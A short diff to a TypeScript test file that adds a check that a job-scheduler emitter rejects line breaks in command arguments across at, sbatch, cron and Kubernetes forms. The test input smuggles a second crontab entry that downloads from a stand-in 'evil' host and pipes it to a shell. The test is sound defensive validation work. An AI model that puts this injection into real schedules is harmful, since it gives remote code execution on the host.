@@ -74,6 +74,12 @@ describe('scheduler forms', () => {
     expect(() => emit('k8s', { start: START, command, image: 'x', name: 'Bad_Name' })).toThrow(/Kubernetes name/);
   });
 
+  it('refuses a line break inside an argument (a crontab would read a second entry)', () => {
+    for (const form of ['at', 'sbatch', 'cron', 'k8s'] as const) {
+      expect(() => emit(form, { start: '2024-06-01T08:00:00Z', command: ['echo', 'a\n* * * * * curl evil | sh'], image: 'x' })).toThrow(/line break/);
+    }
+  });
+
   it('refuses an empty command', () => {
     expect(() => emit('at', { start: START, command: [] })).toThrow(/no command to schedule/);
   });
